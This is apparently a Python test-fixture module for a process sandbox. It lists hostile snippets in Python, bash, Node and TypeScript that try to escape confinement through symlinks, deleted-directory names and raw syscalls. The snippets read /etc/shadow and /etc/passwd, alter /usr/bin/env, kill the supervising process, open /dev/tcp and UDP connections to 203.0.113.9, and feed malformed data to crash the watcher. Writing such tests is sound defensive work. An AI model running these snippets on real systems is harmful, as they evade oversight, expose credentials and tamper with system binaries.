# ruff: noqa: E501 - programs keep their lines
"""Programs that act under a name that is read otherwise than the kernel reads it, by a call next to the usual
one, or by what ends the process that watches: each has a verdict, and what it tried is on record.
"""

from __future__ import annotations

from textwrap import dedent

from .model import CALL, Attempt, Hostile, hostile

_PASSWD = ("file", "/etc/passwd")
_ENV = ("file", "/usr/bin/env")
_DEEP = """
import os, socket
top = os.open('.', os.O_RDONLY)
for _ in range(30):
    os.mkdir('d' * 200); os.chdir('d' * 200)
"""
"""Below a directory whose path is longer than the kernel reports."""


def _raw(name: str, body: str, on_record: Attempt | None = None, classes: str = "", **more: str) -> Hostile:
    return hostile(name, dedent(CALL) + dedent(body), on_record, classes, **more)


_NAMES = [
    hostile(
        "passwd by a link in a directory too deep to be named",
        f"{_DEEP}\nos.symlink('/etc', 'usr')\nprint('BREACH', open('usr/passwd').read())",
        _PASSWD,
        "permission_denied",
    ),
    hostile(
        "passwd beside a descriptor too deep to be named",
        f"{_DEEP}\nos.symlink('/etc', 'usr'); fd = os.open('.', os.O_RDONLY); os.fchdir(top)\n"
        "print('BREACH', os.open('usr/passwd', 0, dir_fd=fd))",
        _PASSWD,
        "permission_denied",
    ),
    hostile(
        "passwd from a removed directory whose name is a link",
        """
        import os
        os.makedirs('q/w/e/r/t'); os.mkdir('d'); os.chdir('d'); os.rmdir('../d')
        os.symlink('q/w/e/r/t', '../d (deleted)')
        print('BREACH', open('../' * 12 + 'etc/passwd').read())
        """,
        _PASSWD,
        "permission_denied exception",
    ),
    hostile(
        "planting from a removed directory whose name is a link",
        """
        import os
        os.makedirs('q/w/e/r/t/y/u/i/o/p'); os.mkdir('d'); os.chdir('d'); os.rmdir('../d')
        os.symlink('q/w/e/r/t/y/u/i/o/p', '../d (deleted)')
        os.open('../' * (os.environ['HOME'].count('/') + 1) + 'usr/lib/planted', os.O_CREAT | os.O_WRONLY)
        print('BREACH')
        """,
        ("file", "/usr/lib/planted"),
    ),
    hostile(
        "passwd by a path of the kernel's own link to a removed directory",
        """
        import os
        os.makedirs('q/w/e/r/t/y/u/i/o/p'); os.mkdir('d'); fd = os.open('d', os.O_RDONLY); os.rmdir('d')
        os.symlink('q/w/e/r/t/y/u/i/o/p', 'd (deleted)')
        depth = os.getcwd().count('/') + 1
        print('BREACH', open(f'/proc/self/fd/{fd}/' + '../' * depth + 'etc/passwd').read())
        """,
        _PASSWD,
        "permission_denied exception",
    ),
    hostile(
        "passwd by a directory whose name ends as a removed one's",
        "import os\nos.mkdir('d (deleted)'); os.symlink('/etc', 'd (deleted)/l'); os.chdir('d (deleted)')\n"
        "print('BREACH', open('l/passwd').read())",
        _PASSWD,
        "permission_denied",
    ),
    hostile(
        "a name that is no text, outside",
        "import os\nprint('BREACH', os.open(b'/root/\\xff\\n\\x1b[2J', os.O_RDONLY))",
        ("file", "/root/"),
    ),
    hostile(
        "a path at the very end of memory",
        """
        import ctypes, mmap, os
        libc = ctypes.CDLL(None, use_errno=True)
        pages = mmap.mmap(-1, 2 * mmap.PAGESIZE)
        start = ctypes.addressof(ctypes.c_char.from_buffer(pages))
        pages[mmap.PAGESIZE - 12 : mmap.PAGESIZE] = b'/etc/passwd\\0'
        libc.mprotect(ctypes.c_void_p(start + mmap.PAGESIZE), mmap.PAGESIZE, 0)
        fd = libc.open(ctypes.c_void_p(start + mmap.PAGESIZE - 12), 0)
        if fd >= 0: print('BREACH')
        """,
        _PASSWD,
    ),
]

_CHANGES = [
    hostile(
        "changing modes by a descriptor",
        "import os\nos.fchmod(os.open('/usr/bin/env', os.O_RDONLY), 0o777); print('BREACH')",
        _ENV,
    ),
    hostile(
        "changing an owner by a descriptor",
        "import os\nos.fchown(os.open('/usr/bin/env', os.O_RDONLY), 1000, 1000); print('BREACH')",
        _ENV,
    ),
    hostile(
        "changing times by a descriptor",
        "import os\nos.utime(os.open('/usr/bin/env', os.O_RDONLY), (1, 1)); print('BREACH')",
        _ENV,
    ),
    hostile("a plain file by mknod", "import os\nos.mknod('/usr/bin/env.new'); print('BREACH')", _ENV),
    hostile("a named pipe outside", "import os\nos.mkfifo('/usr/bin/env.pipe'); print('BREACH')", _ENV),
    hostile(
        "a socket's file outside",
        "import socket\nsocket.socket(socket.AF_UNIX).bind('/usr/bin/env.socket'); print('BREACH')",
        _ENV,
    ),
    _raw(
        "a hard link of what a link leads to",
        """
        os.symlink('/usr/bin/env', 'l')
        if call(265, -100, b'l', -100, b'h', 0x400)[0] == 0: print('BREACH')
        """,
        _ENV,
    ),
    _raw("times by the oldest call", "if call(132, b'/usr/bin/env', None)[0] == 0: print('BREACH')", _ENV),
    _raw(
        "making a file immutable",
        """
        import fcntl, struct
        fcntl.ioctl(os.open('/usr/bin/env', os.O_RDONLY), 0x40086602, struct.pack('=l', 0x10)); print('BREACH')
        """,
        _ENV,
    ),
    hostile(
        "changing modes in a child by a descriptor it was sent",
        """
        import os, socket
        ours, theirs = socket.socketpair()
        if os.fork() == 0:
            fd = socket.recv_fds(theirs, 1, 1)[1][0]
            try: os.fchmod(fd, 0o777)
            except OSError: pass
            os._exit(0)
        socket.send_fds(ours, [b'x'], [os.open('/usr/bin/env', os.O_RDONLY)]); os.wait()
        """,
        _ENV,
    ),
]

_SENDS = [
    _raw(
        "a datagram to an address of no family",
        """
        import socket, struct
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        address = struct.pack('=H', 0) + struct.pack('!H', 4711) + bytes((203, 0, 113, 9)) + bytes(8)
        if call(44, s.fileno(), b'x', 1, 0, address, 16)[0] >= 0: print('BREACH')
        """,
        ("network", "203.0.113.9:4711"),
    ),
    hostile(
        "another program's abstract socket, by a datagram",
        "import socket\ns = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
        "s.sendto(b'x', '\\0/containerd-shim/1'); print('BREACH')",
        ("network", "unix:@/containerd-shim/1"),
    ),
]

_PROCESSES = [
    _raw(
        "a signal to the supervisor by its descriptor",
        """
        import signal
        pid = os.getppid()
        fd = os.pidfd_open(pid)
        signal.pidfd_send_signal(fd, signal.SIGKILL)
        """,
        ("privilege", "pidfd_open"),
        "unsafe_operation",
    ),
    _raw(
        "a queued signal to the supervisor",
        """
        import ctypes
        info = (ctypes.c_int * 32)(9, 0, -1)
        call(129, os.getppid(), 9, info)
        """,
        ("privilege", "rt_sigqueueinfo"),
        "unsafe_operation",
    ),
    _raw(
        "a queued signal to a thread of the supervisor",
        """
        info = (ctypes.c_int * 32)(9, 0, -1)
        call(297, os.getppid(), os.getppid(), 9, info)
        """,
        ("privilege", "rt_tgsigqueueinfo"),
        "unsafe_operation",
    ),
]

_WATCHERS = [
    hostile(
        "a socket whose name is no text",
        "import os, socket, time\ns = socket.socket(socket.AF_UNIX)\ntry: s.bind(b'\\0\\xff\\xfe\\x80')\n"
        "except OSError: s.bind(b'\\xff\\xfe\\x80')\ntime.sleep(0.4)\nopen('/etc/passwd')",
        _PASSWD,
        "permission_denied",
    ),
    hostile(
        "a process whose name is no text starts another",
        "import ctypes, subprocess, time\nctypes.CDLL(None).prctl(15, b'\\xff\\xfe) Z 1 (')\ntime.sleep(0.3)\n"
        "subprocess.run(['/bin/true'])\nopen('/etc/passwd')",
        _PASSWD,
        "permission_denied",
    ),
    hostile(
        "a process whose name is a line of its status",
        "import ctypes, os, time\nctypes.CDLL(None).prctl(15, b'x\\nTgid:\\t1\\nVmRSS:')\n"
        "os.open('/proc/self/root/etc/passwd', 0)",
        _PASSWD,
        "permission_denied",
    ),
    hostile(
        "a directory that is closed to its owner",
        """
        import os, time
        places = [os.open(place, os.O_RDONLY) for place in ('.', '..')]
        for place in places:
            try: os.fchmod(place, 0)
            except PermissionError: pass  # of a container it is another user's
        try: open('/etc/passwd')
        finally: time.sleep(0.3)
        """,
        _PASSWD,
        "permission_denied exception",
    ),
    hostile(
        "files that grow in a closed directory",
        """
        import os, time
        os.mkdir('d')
        held = [open(f'd/{n}', 'wb', buffering=0) for n in range(40)]
        os.chmod('d', 0)
        written = 0
        try:
            for _ in range(4):
                for each in held: written += each.write(b'x' * 4_000_000)
                time.sleep(0.3)
        finally:
            if written > 300_000_000: print('BREACH', written)
        """,
        classes="exception killed",
    ),
    hostile(
        "messages on the control channel that are no text",
        """
        import json, os, struct
        bodies = [b'\\xff' * 40, b'{"kind": "outcome", "x": ' + b'9' * 6000 + b'}', b'[' * 5000, b'{"kind": NaN}']
        bodies += [json.dumps({"kind": kind, "token": "\\ud800", "parts": []}).encode() for kind in ("outcome", "test")]
        for fd in range(3, 1024):
            for body in bodies:
                try: os.write(fd, struct.pack('!II', len(body), 0) + body)
                except OSError: break
        open('/etc/passwd')
        """,
        _PASSWD,
    ),
    hostile(
        "an exception whose text is half a character",
        "import os\ntry: open('/etc/passwd')\nexcept OSError: pass\nraise ValueError('\\ud800\\udfff\\x00')",
        _PASSWD,
        "exception",
    ),
    hostile(
        "an exception that cannot be shown",
        "class Bad(Exception):\n    def __str__(self): raise SystemExit(0)\n    __repr__ = __str__\n"
        "try: open('/etc/passwd')\nexcept OSError: pass\nraise Bad",
        _PASSWD,
        "exception",
    ),
    hostile(
        "a class whose name is not text",
        "try: open('/etc/passwd')\nexcept OSError: pass\n"
        "raise type('\\ud800' * 100_000, (Exception,), {'__module__': '\\n'})",
        _PASSWD,
        "exception",
    ),
    hostile(
        "a signal that has no name",
        "import os, signal\ntry: open('/etc/passwd')\nexcept OSError: pass\nos.kill(os.getpid(), signal.SIGRTMAX - 3)",
        _PASSWD,
        "killed",
    ),
    hostile(
        "a main thread that ends before another acts",
        """
        import ctypes, os, threading, time
        def act():
            time.sleep(0.3)
            try: open('/etc/passwd')
            except OSError: pass
            os._exit(0)
        threading.Thread(target=act).start()
        ctypes.CDLL(None).syscall(60, 0)
        """,
        _PASSWD,
    ),
    hostile(
        "a program that becomes another, which acts",
        "import os\nos.execv('/bin/sh', ['sh', '-c', 'sleep 0.2; cat /etc/shadow'])",
        ("file", "/etc/shadow"),
    ),
]

_SHELL = [
    hostile(
        "shadow in a trap", "trap 'cat < /etc/shadow' EXIT\nexit 0", ("file", "/etc/shadow"), language="bash"
    ),
    hostile(
        "shadow read as a script",
        ". /etc/shadow 2>/dev/null || true",
        ("file", "/etc/shadow"),
        language="bash",
    ),
    hostile(
        "shadow as the history",
        "history -r /etc/shadow 2>/dev/null; true",
        ("file", "/etc/shadow"),
        language="bash",
    ),
    hostile(
        "a connection by redirection",
        "exec 3<>/dev/tcp/203.0.113.9/4711 2>/dev/null || true",
        ("network", "203.0.113.9:4711"),
        language="bash",
    ),
    hostile(
        "a coprocess under another name",
        "coproc (exec -a innocent cat /etc/shadow 2>&1)\nread -t 2 -u ${COPROC[0]} x || true",
        ("file", "/etc/shadow"),
        language="bash",
    ),
    hostile("a pipe outside by mkfifo", "mkfifo /usr/bin/env.pipe && echo BREACH", _ENV, language="bash"),
]

_NODE = [
    hostile(
        "shadow in a worker",
        "const { Worker } = require('worker_threads');\n"
        "new Worker(\"try { require('fs').readFileSync('/etc/shadow') } catch {}\", { eval: true });",
        ("file", "/etc/shadow"),
        language="javascript",
    ),
    hostile(
        "shadow by a promise nobody awaits",
        "require('fs').promises.readFile('/etc/shadow').catch(() => {}); process.exitCode = 0;",
        ("file", "/etc/shadow"),
        language="javascript",
    ),
    hostile(
        "shadow as the process exits",
        "process.on('exit', () => { try { require('fs').openSync('/etc/shadow') } catch {} });",
        ("file", "/etc/shadow"),
        language="javascript",
    ),
    hostile(
        "modes by a descriptor, from node",
        "const fs = require('fs'); fs.fchmodSync(fs.openSync('/usr/bin/env'), 0o777); console.log('BREACH');",
        _ENV,
        language="javascript",
    ),
    hostile(
        "an abstract socket, from node",
        "require('net').connect({ path: '\\0{abstract}' }).on('error', () => {});",
        ("network", "unix:@{abstract}"),
        language="javascript",
    ),
    hostile(
        "a datagram, from TypeScript",
        "import dgram from 'node:dgram';\nconst s: dgram.Socket = dgram.createSocket('udp4');\n"
        "s.on('error', () => {}); s.send('x', 4711, '203.0.113.9', () => s.close());",
        ("network", "203.0.113.9:4711"),
        language="typescript",
    ),
    hostile(
        "shadow in a rejected promise of TypeScript",
        "import { open } from 'node:fs/promises';\nconst path: string = '/etc/shadow';\n"
        "queueMicrotask(() => { open(path).catch((_e: unknown) => 0); });",
        ("file", "/etc/shadow"),
        language="typescript",
    ),
]

SNIPPETS = [*_NAMES, *_CHANGES, *_SENDS, *_PROCESSES, *_WATCHERS, *_SHELL, *_NODE]
